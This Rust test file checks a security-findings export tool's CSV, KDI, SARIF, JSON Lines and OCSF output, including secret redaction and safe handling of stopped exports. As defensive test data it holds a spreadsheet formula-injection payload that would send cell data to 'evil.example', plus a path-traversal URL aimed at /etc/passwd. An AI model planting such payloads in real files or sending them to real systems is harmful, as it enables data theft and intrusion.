//! What each format says, read back: CSV through a CSV reader, KDI's severity map and
//! splitting, SARIF's stable fingerprints, JSON Lines' fields, filters, and that no
//! export carries a connector's secret.

mod common;

use export::{ExportOptions, Format};
use query::{Entity, Filter};
use serde_json::Value;
use std::collections::HashMap;
use std::path::Path;
use store::{ListQuery, Store, StoredFinding};

fn export_to(store: &dyn Store, format: Format, out: &Path, f: impl FnOnce(&mut ExportOptions)) {
    let mut o = ExportOptions::new(format);
    o.out = Some(out.to_path_buf());
    f(&mut o);
    export::export(store, &o).expect("export");
}

fn all(store: &dyn Store) -> HashMap<String, StoredFinding> {
    store
        .findings(&ListQuery::default())
        .expect("findings")
        .into_iter()
        .map(|f| (f.finding.external_id.clone(), f))
        .collect()
}

#[test]
fn csv_round_trips_through_a_csv_reader() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let path = tmp.path().join("out.csv");
    export_to(&store, Format::Csv, &path, |_| {});
    let stored = all(&store);
    let mut r = csv::Reader::from_path(&path).expect("csv");
    let header: Vec<String> = r
        .headers()
        .expect("header")
        .iter()
        .map(String::from)
        .collect();
    assert_eq!(header, export::csv::HEADER);
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let mut n = 0;
    for rec in r.records() {
        let rec = rec.expect("record");
        assert_eq!(rec.len(), header.len());
        let f = &stored[&rec[col("external_id")]];
        assert_eq!(
            &rec[col("description")],
            f.finding.description.as_deref().unwrap_or("")
        );
        assert!(rec[col("description")].contains(",") && rec[col("description")].contains('"'));
        assert!(
            rec[col("description")].contains("\r\n"),
            "line breaks survive"
        );
        assert_eq!(&rec[col("name")], f.finding.name);
        assert_eq!(&rec[col("app")], f.asset_name.as_deref().unwrap_or(""));
        assert_eq!(&rec[col("severity")], f.finding.severity.as_str());
        assert_eq!(&rec[col("status")], f.finding.status.as_str());
        assert_eq!(&rec[col("risk")], f.risk.to_string());
        assert_eq!(&rec[col("kev")], f.kev.to_string());
        assert_eq!(&rec[col("tags")], f.finding.tags.join("; "));
        assert_eq!(&rec[col("fingerprint")], f.fingerprint);
        assert_eq!(
            &rec[col("cwe")],
            f.finding.cwe.map(|c| c.to_string()).unwrap_or_default()
        );
        n += 1;
    }
    assert_eq!(n, common::FINDINGS);
}

#[test]
fn jsonl_has_every_normalized_field() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let path = tmp.path().join("out.jsonl");
    export_to(&store, Format::Jsonl, &path, |_| {});
    let stored = all(&store);
    let text = std::fs::read_to_string(&path).expect("read");
    assert_eq!(text.lines().count(), common::FINDINGS);
    for line in text.lines() {
        let v: Value = serde_json::from_str(line).expect("JSON");
        let id = v["external_id"].as_str().expect("external_id");
        let want = serde_json::to_value(&stored[id]).expect("value");
        assert_eq!(v, want, "the line is the stored finding");
        for key in [
            "severity",
            "status",
            "risk",
            "fingerprint",
            "connector",
            "description",
        ] {
            assert!(v.get(key).is_some(), "{key}");
        }
    }
}

/// The default: every stored finding is a version-2 finding of its own (its issue id as
/// `scanner_identifier`), as the platform's AppScan connectors load them. Vulns keyed by
/// issue type (the old default) became one vuln per application and type there.
#[test]
fn kdi_writes_each_issue_as_a_finding_of_its_own() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let stored = all(&store);
    let by_id: HashMap<&str, &StoredFinding> = stored
        .values()
        .map(|f| (f.finding.external_id.as_str(), f))
        .collect();
    let dir = tmp.path().join("kdi");
    export_to(&store, Format::Kdi, &dir, |_| {});
    let mut seen = std::collections::HashSet::new();
    for file in common::files(&dir) {
        let doc: Value =
            serde_json::from_slice(&std::fs::read(&file).expect("read")).expect("JSON");
        let asset = &doc["assets"][0];
        assert_eq!(asset["vulns"], serde_json::json!([]), "{}", file.display());
        let defs: Vec<&str> = doc["vuln_defs"]
            .as_array()
            .expect("defs")
            .iter()
            .map(|d| d["name"].as_str().expect("name"))
            .collect();
        for item in asset["findings"].as_array().expect("findings") {
            let id = item["scanner_identifier"].as_str().expect("id");
            assert!(seen.insert(id.to_string()), "{id} written once");
            let f = by_id[id];
            let sev = usize::from(f.finding.severity.score() - 1);
            assert_eq!(item["severity"], [0, 3, 6, 9, 10][sev]);
            assert_eq!(
                item["triage_state"],
                export::kdi::triage_state(f.finding.status)
            );
            let def = item["vuln_def_name"].as_str().expect("vuln_def_name");
            assert!(
                defs.contains(&def),
                "{def} has its vuln_def in the same file"
            );
            assert_eq!(
                item["additional_fields"]["fingerprint"],
                f.fingerprint.as_str()
            );
        }
    }
    assert_eq!(seen.len(), common::FINDINGS, "every finding, none merged");
}

#[test]
fn kdi_vulns_map_severities_statuses_and_split_by_size() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let stored = all(&store);
    let by_issue: HashMap<(String, String), &StoredFinding> = stored
        .values()
        .map(|f| {
            let key = (
                f.finding.asset_external_id.clone(),
                format!(
                    "Issue: {} ({})",
                    f.finding.external_id,
                    f.finding.status.as_str()
                ),
            );
            (key, f)
        })
        .collect();
    let rank = |f: &StoredFinding| {
        if f.finding.status.is_open() {
            (3, "open")
        } else if matches!(
            f.finding.status,
            model::Status::Fixed | model::Status::Closed
        ) {
            (2, "closed")
        } else {
            (1, "false_positive")
        }
    };
    // Every vuln is the issues of one application and type its details list (merged: the
    // platform keeps one vuln per asset and identifier).
    let check = |dir: &Path, scores: [u64; 5]| -> usize {
        let mut n = 0;
        let mut seen = std::collections::HashSet::new();
        for file in common::files(dir) {
            let doc: Value =
                serde_json::from_slice(&std::fs::read(&file).expect("read")).expect("JSON");
            assert_eq!(doc["version"], 2);
            assert_eq!(doc["skip_autoclose"], false);
            let asset = &doc["assets"][0];
            let defs: Vec<&str> = doc["vuln_defs"]
                .as_array()
                .expect("defs")
                .iter()
                .map(|d| d["scanner_identifier"].as_str().expect("id"))
                .collect();
            for v in asset["vulns"].as_array().expect("vulns") {
                let details = v["details"].as_str().expect("details");
                let issues: Vec<&StoredFinding> = details
                    .lines()
                    .filter(|l| l.starts_with("Issue: "))
                    .map(|l| {
                        by_issue
                            .iter()
                            .find(|((_, d), _)| d == l)
                            .map(|(_, f)| *f)
                            .expect("finding of the vuln")
                    })
                    .collect();
                let f = issues[0];
                let sid = v["scanner_identifier"].as_str().expect("sid");
                assert!(
                    seen.insert((f.finding.asset_external_id.clone(), sid.to_string())),
                    "{sid} is one vuln of its application"
                );
                for i in &issues {
                    assert_eq!(i.finding.asset_external_id, f.finding.asset_external_id);
                    match &i.finding.cve {
                        Some(c) => assert!(sid.ends_with(c.as_str())),
                        None => assert_eq!(Some(sid), i.finding.issue_type.as_deref()),
                    }
                }
                let top = issues
                    .iter()
                    .map(|i| scores[usize::from(i.finding.severity.score() - 1)])
                    .max();
                assert_eq!(v["scanner_score"].as_u64(), top);
                let want = issues.iter().map(|i| rank(i)).max().expect("an issue").1;
                assert_eq!(v["status"], want, "{details}");
                assert_eq!(v["closed_at"].is_string(), want == "closed");
                assert!(
                    defs.contains(&sid),
                    "{sid} has its vuln_def in the same file"
                );
                let scanner = if f.connector == "cloud" {
                    "AppScanCloud"
                } else {
                    "AppScanStandard"
                };
                assert_eq!(v["scanner_type"], scanner);
                match &f.asset_url {
                    Some(u) => assert_eq!(asset["url"], u.as_str()),
                    None => assert!(asset["external_id"].is_string()),
                }
                n += issues.len();
            }
        }
        n
    };
    let one = tmp.path().join("one");
    export_to(&store, Format::Kdi, &one, |o| o.kdi_vulns = true);
    assert_eq!(common::files(&one).len(), 3, "one file per application");
    assert_eq!(check(&one, [0, 3, 6, 9, 10]), common::FINDINGS);

    let small = tmp.path().join("small");
    export_to(&store, Format::Kdi, &small, |o| {
        o.kdi_vulns = true;
        o.max_file_size = 6_000;
        o.kdi_scores = [1, 2, 5, 8, 10];
    });
    let files = common::files(&small);
    assert!(
        files.len() > 3,
        "split beyond one file per application: {}",
        files.len()
    );
    for f in &files {
        let size = std::fs::metadata(f).expect("meta").len();
        assert!(size <= 6_000, "{} is {size} bytes", f.display());
        let name = f.file_name().and_then(|n| n.to_str()).expect("name");
        let parts: Vec<&str> = name.trim_end_matches(".json").rsplitn(3, '-').collect();
        assert!(
            parts[0].parse::<u32>().is_ok() && parts[1].parse::<i64>().is_ok(),
            "{name}"
        );
        assert!(
            name.starts_with("cloud-app-") || name.starts_with("reports-app-3-"),
            "{name}"
        );
    }
    assert_eq!(check(&small, [1, 2, 5, 8, 10]), common::FINDINGS);
}

/// Every finding reaches a file of its own application, and no file is written twice:
/// application ids that clean to one file name ("支払" and "在庫", "shop a" and "shop/a")
/// used to share a file, the last one overwriting the first, and so did an application
/// met again after another connector's application of the same id.
#[test]
fn kdi_never_writes_two_applications_into_one_file() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded_runs(
        tmp.path(),
        &[
            ("reports", &["application:支払", "application:在庫"], 10),
            ("reports", &["shop a", "shop/a", "app-x"], 12),
            ("other", &["app-x"], 5),
            ("reports", &["app-x"], 4),
        ],
    );
    let out = tmp.path().join("kdi");
    let mut o = ExportOptions::new(Format::Kdi);
    o.out = Some(out.clone());
    let summary = export::export(&store, &o).expect("export");
    let files = common::files(&out);
    assert_eq!(
        summary.files.len(),
        files.len(),
        "every file named is on disk"
    );
    let mut per_app: HashMap<String, usize> = HashMap::new();
    for file in &files {
        let doc: Value = serde_json::from_slice(&std::fs::read(file).expect("read")).expect("JSON");
        let asset = &doc["assets"][0];
        let app = asset["external_id"]
            .as_str()
            .expect("external_id")
            .to_string();
        *per_app.entry(app).or_default() += asset["findings"].as_array().expect("findings").len();
    }
    let want: HashMap<String, usize> = [
        ("reports:application:支払", 5),
        ("reports:application:在庫", 5),
        ("reports:shop a", 4),
        ("reports:shop/a", 4),
        ("reports:app-x", 8),
        ("other:app-x", 5),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v))
    .collect();
    assert_eq!(per_app, want, "files: {files:?}");
}

/// Text a scanned site controls must not run as a formula where the CSV is opened: a
/// cell that starts like one gets a leading `'`, unless formulas are asked for.
#[test]
fn csv_cells_that_would_run_as_formulas_are_defused() {
    let tmp = tempfile::tempdir().expect("tmp");
    let app = "=HYPERLINK(\"http://evil.example/?\"&A2,\"Details\")";
    let store = common::seeded_runs(tmp.path(), &[("reports", &[app], 2)]);
    let cells = |keep: bool| -> Vec<(String, String)> {
        let path = tmp.path().join(format!("out-{keep}.csv"));
        export_to(&store, Format::Csv, &path, |o| o.csv_keep_formulas = keep);
        let mut r = csv::Reader::from_path(&path).expect("csv");
        let header = r.headers().expect("header").clone();
        let col = |name: &str| header.iter().position(|h| h == name).expect(name);
        r.records()
            .map(|rec| {
                let rec = rec.expect("record");
                (rec[col("app")].to_string(), rec[col("app_id")].to_string())
            })
            .collect()
    };
    let defused = format!("'{app}");
    assert!(
        cells(false)
            .iter()
            .all(|(name, id)| *name == defused && *id == defused)
    );
    assert!(
        cells(true)
            .iter()
            .all(|(name, id)| name == app && id == app)
    );
}

/// A filtered load holds part of an application's findings: with auto-close on, the
/// platform would close every vuln the filter left out.
#[test]
fn a_filtered_kdi_export_turns_auto_close_off() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let skip_autoclose = |dir: &Path| -> Vec<Value> {
        common::files(dir)
            .iter()
            .map(|f| {
                let doc: Value =
                    serde_json::from_slice(&std::fs::read(f).expect("read")).expect("JSON");
                doc["skip_autoclose"].clone()
            })
            .collect()
    };
    let whole = tmp.path().join("whole");
    export_to(&store, Format::Kdi, &whole, |o| {
        o.connector = Some("cloud".into())
    });
    assert!(skip_autoclose(&whole).iter().all(|v| v == false));
    let filtered = tmp.path().join("filtered");
    export_to(&store, Format::Kdi, &filtered, |o| {
        o.filter = Some(Filter::parse(Entity::Findings, "severity>=high").expect("filter"));
    });
    let flags = skip_autoclose(&filtered);
    assert!(
        !flags.is_empty() && flags.iter().all(|v| v == true),
        "{flags:?}"
    );
}

#[test]
fn sarif_fingerprints_are_stable_and_filters_apply() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let read = |p: &Path| -> Vec<(String, String)> {
        let doc: Value = serde_json::from_slice(&std::fs::read(p).expect("read")).expect("JSON");
        // One run per application: every run's results.
        let mut v: Vec<(String, String)> = doc["runs"]
            .as_array()
            .expect("runs")
            .iter()
            .flat_map(|run| run["results"].as_array().expect("results"))
            .map(|r| {
                (
                    r["properties"]["externalId"]
                        .as_str()
                        .expect("id")
                        .to_string(),
                    r["partialFingerprints"]["appscanBridge/v1"]
                        .as_str()
                        .expect("fp")
                        .to_string(),
                )
            })
            .collect();
        v.sort();
        v
    };
    let (a, b) = (tmp.path().join("a.sarif"), tmp.path().join("b.sarif"));
    export_to(&store, Format::Sarif, &a, |_| {});
    store.rescore().expect("rescore");
    export_to(&store, Format::Sarif, &b, |_| {});
    assert_eq!(read(&a), read(&b));
    assert_eq!(read(&a).len(), common::FINDINGS);

    let filtered = tmp.path().join("f.sarif");
    export_to(&store, Format::Sarif, &filtered, |o| {
        o.filter = Some(Filter::parse(Entity::Findings, "severity>=high and cwe:79").expect("f"));
    });
    let got = read(&filtered);
    let want = store
        .count_findings(&ListQuery {
            filter: Some(Filter::parse(Entity::Findings, "severity>=high and cwe:79").expect("f")),
            ..Default::default()
        })
        .expect("count");
    assert!(want > 0);
    assert_eq!(got.len() as u64, want);
}

#[test]
fn no_export_carries_a_connector_secret() {
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    for format in Format::ALL {
        let out = tmp.path().join(format!("out-{}", format.name()));
        export_to(&store, format, &out, |_| {});
        let files = if out.is_dir() {
            common::files(&out)
        } else {
            vec![out]
        };
        for f in files {
            let text = std::fs::read_to_string(&f).expect("read");
            assert!(
                !text.contains(common::SECRET),
                "{} leaks the secret",
                f.display()
            );
            assert!(
                !text.contains("key-id"),
                "{} carries the key id",
                f.display()
            );
        }
    }
}

/// An export whose stop flag is set (by `serve` when the client that asked for it has
/// gone) ends at the next finding instead of reading the rest of the store.
#[test]
fn a_stopped_export_ends_at_the_next_finding() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    let stop = Arc::new(AtomicBool::new(false));
    let mut o = ExportOptions::new(Format::Jsonl);
    o.out = Some(tmp.path().join("out.jsonl"));
    o.stop = Some(stop.clone());
    let mut written = 0;
    let result = export::export_with_progress(&store, &o, &mut |n| {
        written = n;
        if n == 2 {
            stop.store(true, Ordering::Relaxed);
        }
    });
    assert!(
        matches!(result, Err(export::ExportError::Stopped)),
        "{result:?}"
    );
    assert_eq!(written, 2);
    const { assert!(common::FINDINGS > 3) };
}

/// A stopped (or failed) export leaves the file an earlier export wrote as it was: it
/// wrote a cut file over it under the same name (Ctrl-C, SIGTERM, `timeout`). Nothing
/// of the stopped export is left behind.
#[test]
fn a_stopped_export_leaves_the_earlier_file_whole() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let tmp = tempfile::tempdir().expect("tmp");
    let store = common::seeded(tmp.path());
    for format in Format::ALL {
        let out = tmp
            .path()
            .join(format.name())
            .join(format!("out.{}", format.name()));
        let out = if format.writes_directory() {
            out.with_extension("d")
        } else {
            out
        };
        export_to(&store, format, &out, |_| {});
        let before = files_under(out.parent().expect("dir"));
        let stop = Arc::new(AtomicBool::new(false));
        let mut o = ExportOptions::new(format);
        o.out = Some(out.clone());
        o.stop = Some(stop.clone());
        let result = export::export_with_progress(&store, &o, &mut |n| {
            if n == 2 {
                stop.store(true, Ordering::Relaxed);
            }
        });
        assert!(
            matches!(result, Err(export::ExportError::Stopped)),
            "{format:?}: {result:?}"
        );
        assert_eq!(
            files_under(out.parent().expect("dir")),
            before,
            "{format:?}: the earlier export's files, whole, and nothing else"
        );
    }
}

/// Every file under `dir` with its length and a hash of its bytes.
fn files_under(dir: &Path) -> std::collections::BTreeMap<std::path::PathBuf, (usize, u64)> {
    use std::hash::{DefaultHasher, Hash, Hasher};
    let mut out = std::collections::BTreeMap::new();
    for entry in std::fs::read_dir(dir).expect("list") {
        let path = entry.expect("entry").path();
        if path.is_dir() {
            out.extend(files_under(&path));
        } else {
            let bytes = std::fs::read(&path).expect("read");
            let mut h = DefaultHasher::new();
            bytes.hash(&mut h);
            out.insert(path, (bytes.len(), h.finish()));
        }
    }
    out
}

/// An AppScan Standard report's items have no creation date: the store knows only the
/// report's scan date (last found) and its own import time (first seen, on another
/// clock). KDI `created_at` and OCSF `first_seen_time` took the import time while the
/// last-seen side took the scan date, so an old report's findings were created years
/// after they were last seen.
#[test]
fn a_finding_without_a_first_found_date_is_not_created_after_it_was_last_seen() {
    let tmp = tempfile::tempdir().expect("tmp");
    let scanned = chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2024, 10, 16, 18, 0, 0)
        .single()
        .expect("date");
    let mut undated = common::finding(1, "app-1");
    undated.finding.first_found = None;
    undated.finding.last_found = Some(scanned);
    // A source whose first-found date is after its last-found date (clock skew).
    let mut skewed = common::finding(2, "app-1");
    skewed.finding.first_found = Some(scanned + chrono::Duration::days(3));
    skewed.finding.last_found = Some(scanned);
    let store = common::store_with(
        tmp.path(),
        "reports",
        vec![common::asset("app-1", "Std", None)],
        vec![undated, skewed],
    );
    let want = "2024-10-16T18:00:00Z";

    for vulns in [false, true] {
        let dir = tmp.path().join(format!("kdi-{vulns}"));
        export_to(&store, Format::Kdi, &dir, |o| o.kdi_vulns = vulns);
        let mut items = 0;
        for file in common::files(&dir) {
            let doc: Value =
                serde_json::from_slice(&std::fs::read(&file).expect("read")).expect("JSON");
            let asset = &doc["assets"][0];
            let list = if vulns {
                &asset["vulns"]
            } else {
                &asset["findings"]
            };
            for item in list.as_array().expect("items") {
                items += 1;
                assert_eq!(item["last_seen_at"], want, "{item}");
                assert_eq!(item["created_at"], want, "kdi_vulns {vulns}: {item}");
            }
        }
        assert!(items > 0, "kdi_vulns {vulns} wrote items");
    }

    let path = tmp.path().join("ocsf.jsonl");
    export_to(&store, Format::Ocsf, &path, |_| {});
    let text = std::fs::read_to_string(&path).expect("read");
    let want_ms = scanned.timestamp_millis();
    let mut events = 0;
    for line in text.lines() {
        let e: Value = serde_json::from_str(line).expect("JSON");
        events += 1;
        for part in [&e["finding_info"], &e["vulnerabilities"][0]] {
            assert_eq!(part["last_seen_time"], want_ms, "{part}");
            assert_eq!(part["first_seen_time"], want_ms, "{part}");
        }
    }
    assert_eq!(events, 2);
}

/// An undated finding (AppScan Standard) is first seen when the store first saw it, or
/// at its scan date when that is earlier: taking the last report's scan date made it
/// first seen later with each newer report, resetting its age.
#[test]
fn an_undated_finding_keeps_its_first_seen_time_as_newer_reports_come() {
    let tmp = tempfile::tempdir().expect("tmp");
    let at = |y, m, d| {
        chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, y, m, d, 0, 0, 0)
            .single()
            .expect("date")
    };
    let mut undated = common::finding(1, "app-1");
    undated.finding.first_found = None;
    let store = common::store_with(
        tmp.path(),
        "reports",
        vec![common::asset("app-1", "Std", None)],
        vec![undated],
    );
    let mut f = all(&store).into_values().next().expect("stored");
    f.first_seen = at(2024, 4, 1);
    f.finding.last_found = Some(at(2024, 6, 1));
    assert_eq!(export::registry::seen_times(&f).0, at(2024, 4, 1));
    f.finding.last_found = Some(at(2024, 9, 1));
    assert_eq!(export::registry::seen_times(&f).0, at(2024, 4, 1), "stable");
    // An old report imported later: first seen at its scan date, not after it.
    f.finding.last_found = Some(at(2024, 3, 5));
    assert_eq!(export::registry::seen_times(&f).0, at(2024, 3, 5));
}

/// A DAST location written as a network-path reference (`//host/path`) is a URL with the
/// finding's scheme in SARIF and OCSF; it was a UNC file path (`file://host/…`, OCSF
/// `affected_code`). A SAST finding's `//server/share/…` stays a file path.
#[test]
fn a_web_findings_network_path_location_is_a_url() {
    let tmp = tempfile::tempdir().expect("tmp");
    let mut dast = common::finding(1, "app-1");
    dast.finding.location = Some("//shop.example.com/login?next=/admin".into());
    dast.finding.protocol = Some("http".into());
    let mut sast = common::finding(2, "app-1");
    sast.finding.location = Some("//srv/share/src/a.c".into());
    sast.finding.protocol = None;
    let store = common::store_with(
        tmp.path(),
        "reports",
        vec![common::asset("app-1", "Shop", None)],
        vec![dast, sast],
    );
    let want = "http://shop.example.com/login?next=/admin";

    let path = tmp.path().join("f.sarif");
    export_to(&store, Format::Sarif, &path, |_| {});
    let doc: Value = serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("JSON");
    let uris: std::collections::HashSet<&str> = doc["runs"][0]["results"]
        .as_array()
        .expect("results")
        .iter()
        .filter_map(|r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].as_str())
        .collect();
    assert!(uris.contains(want), "{uris:?}");
    assert!(uris.contains("file://srv/share/src/a.c"), "{uris:?}");

    let path = tmp.path().join("f.ocsf.jsonl");
    export_to(&store, Format::Ocsf, &path, |_| {});
    let text = std::fs::read_to_string(&path).expect("read");
    let events: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON"))
        .collect();
    let dast = events
        .iter()
        .find(|e| e["unmapped"]["external_id"] == "issue-001")
        .expect("the DAST event");
    assert_eq!(dast["finding_info"]["src_url"], want, "{dast}");
    assert!(dast["vulnerabilities"][0].get("affected_code").is_none());
    let sast = events
        .iter()
        .find(|e| e["unmapped"]["external_id"] == "issue-002")
        .expect("the SAST event");
    assert!(sast["finding_info"].get("src_url").is_none(), "{sast}");
}

/// A path-traversal finding's attacked URL reaches SARIF and OCSF as attacked: both
/// resolved its `..` segments (the `url` crate's reading), so the export said the scanner
/// attacked `/etc/passwd` of the application's root, not the path it did attack.
#[test]
fn an_attacked_url_keeps_its_dot_segments() {
    let tmp = tempfile::tempdir().expect("tmp");
    let attacked = "http://shop.example.com:9000/app/../../etc/passwd?f=%2e%2e/x";
    let mut dast = common::finding(1, "app-1");
    dast.finding.location = Some(attacked.into());
    let store = common::store_with(
        tmp.path(),
        "scans",
        vec![common::asset("app-1", "Shop", None)],
        vec![dast],
    );
    let path = tmp.path().join("f.sarif");
    export_to(&store, Format::Sarif, &path, |_| {});
    let doc: Value = serde_json::from_slice(&std::fs::read(&path).expect("read")).expect("JSON");
    let uri = &doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
        ["uri"];
    assert_eq!(uri, attacked);

    let path = tmp.path().join("f.ocsf.jsonl");
    export_to(&store, Format::Ocsf, &path, |_| {});
    let text = std::fs::read_to_string(&path).expect("read");
    let event: Value = serde_json::from_str(text.lines().next().expect("an event")).expect("JSON");
    assert_eq!(event["finding_info"]["src_url"], attacked, "{event}");
}
